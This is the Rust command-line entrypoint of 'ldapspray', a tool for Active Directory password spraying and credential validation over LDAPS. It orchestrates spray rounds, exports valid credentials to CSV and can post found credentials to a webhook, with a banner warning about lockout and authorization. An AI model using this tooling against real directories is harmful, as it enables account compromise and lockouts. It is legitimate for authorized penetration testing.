//! CLI entrypoint for `ldapspray`.
//!
//! Parses command-line arguments, sets up the console/file logger, validates
//! inputs and TLS trust before any bind is sent, asks for confirmation, runs
//! the engine in spray or validation mode, prints a summary and optionally
//! exports the valid credentials as CSV.
use std::fs;
use std::io::{self, BufRead, Write};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use clap::{Parser, ValueEnum};
use colored::Colorize;
use ldapspray::{
    engine::{Engine, EngineConfig},
    export::save_valid_credentials_csv,
    ldap::LdapAuthenticator,
    logging,
    notify::{BackgroundNotifier, WebhookNotifier},
    report::{LogReporter, render_summary},
    source::{CredentialSource, precheck_validation_file},
    wordlist::DEFAULT_MMAP_THRESHOLD_BYTES,
};
use log::{error, info, warn};

#[derive(Parser, Debug)]
#[command(
    name = "ldapspray",
    version,
    about = "Active Directory password spraying and credential validation over LDAPS"
)]
struct Args {
    /// Account list, one account per line (UPN form works best)
    #[arg(long = "accounts", default_value = "accounts.list")]
    accounts: PathBuf,

    /// Password list, one password per line
    #[arg(long = "passwords", default_value = "passwords.list")]
    passwords: PathBuf,

    /// Validation mode: file of account:password lines to check
    #[arg(long = "validatecreds")]
    validatecreds: Option<PathBuf>,

    /// Directory endpoint, e.g. ldaps://dc01.corp.example
    #[arg(long = "dc", env = "LDAPSPRAY_DC")]
    dc: String,

    /// PEM certificate of the domain controller, to use TLS from a non-domain machine
    #[arg(long = "dccert")]
    dccert: Option<PathBuf>,

    /// Log file receiving results and output (appended)
    #[arg(long = "logfile", default_value = "results.log")]
    logfile: PathBuf,

    /// Number of concurrent workers
    #[arg(long = "workers", default_value_t = 2)]
    workers: usize,

    /// Connection retries per credential pair
    #[arg(long = "max-retries", default_value_t = 3)]
    max_retries: u32,

    /// Pause before each connection retry, in milliseconds
    #[arg(long = "retry-backoff-ms", default_value_t = 100)]
    retry_backoff_ms: u64,

    /// Pause between password rounds, in seconds
    #[arg(long = "round-pause-secs", default_value_t = 10)]
    round_pause_secs: u64,

    /// Pause between validation entries, in milliseconds
    #[arg(long = "item-pause-ms", default_value_t = 10)]
    item_pause_ms: u64,

    /// Queue capacity (defaults to the worker count)
    #[arg(long = "queue-capacity")]
    queue_capacity: Option<usize>,

    /// TCP/TLS connect timeout, in seconds
    #[arg(long = "connect-timeout-secs", default_value_t = 10)]
    connect_timeout_secs: u64,

    /// Log bind and connection error details
    #[arg(long = "verbose-errors")]
    verbose_errors: bool,

    /// Webhook URL notified on round start and on valid credentials
    #[arg(long = "notify-url", env = "LDAPSPRAY_NOTIFY_URL")]
    notify_url: Option<url::Url>,

    /// Directory for a CSV export of valid credentials
    #[arg(short = 'o', long = "output")]
    output: Option<PathBuf>,

    /// Start without waiting for ENTER
    #[arg(short = 'y', long = "yes")]
    yes: bool,

    /// Override mmap threshold in bytes. If zero, disable mmap.
    #[arg(long = "mmap-threshold", default_value_t = DEFAULT_MMAP_THRESHOLD_BYTES)]
    mmap_threshold: u64,

    /// Increase verbosity (-v)
    #[arg(short = 'v', action = clap::ArgAction::Count)]
    verbose: u8,

    /// Control color output (auto, always, never)
    #[arg(long = "color", value_enum, default_value_t = ColorChoice::Auto)]
    color: ColorChoice,

    /// Suppress the end-of-run summary
    #[arg(short = 'q', long = "quiet")]
    quiet: bool,
}

#[derive(Debug, Clone, Copy, ValueEnum)]
enum ColorChoice {
    Auto,
    Always,
    Never,
}

const BANNER: &str = r#"
*******************************************************
***                    ldapspray                    ***
***                                                 ***
***        Active Directory Password Testing        ***
***      Be aware of account lockout policies       ***
***   Only test systems you are authorized to test  ***
*******************************************************
"#;

fn verify_inputs(args: &Args) -> Result<()> {
    if args.workers == 0 {
        bail!("--workers must be at least 1");
    }
    let required: Vec<&PathBuf> = match &args.validatecreds {
        Some(path) => vec![path],
        None => vec![&args.accounts, &args.passwords],
    };
    for p in required {
        if !p.is_file() {
            bail!("input file not found: {}", p.display());
        }
    }
    if let Some(cert) = &args.dccert {
        if !cert.is_file() {
            bail!("certificate file not found: {}", cert.display());
        }
    }
    Ok(())
}

fn engine_config(args: &Args) -> EngineConfig {
    EngineConfig {
        worker_count: args.workers,
        max_retries: args.max_retries,
        retry_backoff: Duration::from_millis(args.retry_backoff_ms),
        inter_round_pause: Duration::from_secs(args.round_pause_secs),
        inter_item_pause: Duration::from_millis(args.item_pause_ms),
        queue_capacity: args.queue_capacity.unwrap_or(args.workers),
    }
}

fn log_configuration(args: &Args) {
    let show = |p: &Option<PathBuf>| {
        p.as_ref()
            .map(|p| p.display().to_string())
            .unwrap_or_default()
    };
    info!("ldapspray -- Configuration:");
    info!("=========================");
    info!("Accounts File    : {}", args.accounts.display());
    info!("Passwords File   : {}", args.passwords.display());
    info!("Validation File  : {}", show(&args.validatecreds));
    info!("Domain Controller: {}", args.dc);
    info!("Domain CA        : {}", show(&args.dccert));
    info!("Workers          : {}", args.workers);
    info!("Notifications    : {}", args.notify_url.is_some());
}

fn build_source(args: &Args, threshold: u64) -> Result<CredentialSource> {
    match &args.validatecreds {
        Some(path) => {
            info!("Validation Mode. Will test the provided credentials file.");
            let pairs = precheck_validation_file(path, threshold)?;
            info!("{} credential pair(s) to validate", pairs);
            CredentialSource::validation_from_file(path, threshold)
        }
        None => {
            info!("Reading Input Files for account names and passwords.");
            let source = CredentialSource::spray_from_files(&args.accounts, &args.passwords, threshold)?;
            if let CredentialSource::Spray { accounts, .. } = &source {
                if accounts.is_empty() {
                    warn!("account list {} is empty", args.accounts.display());
                }
            }
            Ok(source)
        }
    }
}

fn build_authenticator(args: &Args) -> Result<LdapAuthenticator> {
    let mut builder = LdapAuthenticator::builder(&args.dc)
        .connect_timeout(Duration::from_secs(args.connect_timeout_secs));
    if let Some(cert) = &args.dccert {
        info!("Loading DC cert from local file ({})", cert.display());
        builder = builder.trust_certificate(cert);
    }
    let auth = builder.build()?;
    info!("TLS configuration complete.");
    Ok(auth)
}

fn build_reporter(args: &Args) -> Result<LogReporter> {
    let reporter = LogReporter::new(args.verbose_errors);
    match &args.notify_url {
        Some(url) => {
            let webhook =
                WebhookNotifier::new(url.clone()).context("failed to set up webhook notifier")?;
            // Pending alerts are flushed when the engine drops the reporter.
            let notifier = BackgroundNotifier::spawn(Box::new(webhook))
                .context("failed to start notifier thread")?;
            Ok(reporter.with_notifier(Box::new(notifier)))
        }
        None => Ok(reporter),
    }
}

/// Wait for ENTER. A closed stdin counts as consent so the tool can run
/// unattended.
fn confirm_start() {
    print!("Press ENTER to start test execution. ");
    let _ = io::stdout().flush();
    let mut line = String::new();
    let _ = io::stdin().lock().read_line(&mut line);
}

fn main() {
    let args = Args::parse();
    match args.color {
        ColorChoice::Always => {
            colored::control::set_override(true);
        }
        ColorChoice::Never => {
            colored::control::set_override(false);
        }
        ColorChoice::Auto => {}
    }
    match logging::open_log_file(&args.logfile) {
        Ok(file) => logging::init(args.verbose, Some(file)),
        Err(e) => {
            logging::init(args.verbose, None);
            error!("{:#}", e);
            std::process::exit(2);
        }
    }

    println!("{}", BANNER.bold().green());
    log_configuration(&args);

    if let Err(e) = verify_inputs(&args) {
        error!("{}", e);
        std::process::exit(2);
    }
    let threshold = if args.mmap_threshold == 0 {
        u64::MAX
    } else {
        args.mmap_threshold
    };
    let config = engine_config(&args);

    let loaded = build_authenticator(&args).and_then(|auth| {
        let source = build_source(&args, threshold)?;
        let reporter = build_reporter(&args)?;
        Ok((auth, source, reporter))
    });
    let (auth, source, reporter) = match loaded {
        Ok(parts) => parts,
        Err(e) => {
            error!("failed to load inputs: {:#}", e);
            std::process::exit(3);
        }
    };

    if !args.yes {
        confirm_start();
    }
    info!("Starting.");

    let summary = match Engine::new(config).run(source, auth, Arc::new(reporter)) {
        Ok(summary) => summary,
        Err(e) => {
            error!("run aborted: {}", e);
            std::process::exit(4);
        }
    };

    if !args.quiet {
        println!("{}", render_summary(&summary));
    }

    if let Some(outdir) = args.output {
        if let Err(e) = fs::create_dir_all(&outdir) {
            error!(
                "failed to create output directory {}: {}",
                outdir.display(),
                e
            );
            std::process::exit(5);
        }
        let ts = chrono::Local::now().format("%Y.%m.%d_%H.%M.%S");
        let csv = outdir.join(format!("ldapspray_valid_{}.csv", ts));
        if let Err(e) = save_valid_credentials_csv(&summary, &csv) {
            error!("failed to write {}: {:#}", csv.display(), e);
            std::process::exit(5);
        }
        info!("valid credentials written to {}", csv.display());
    }
}
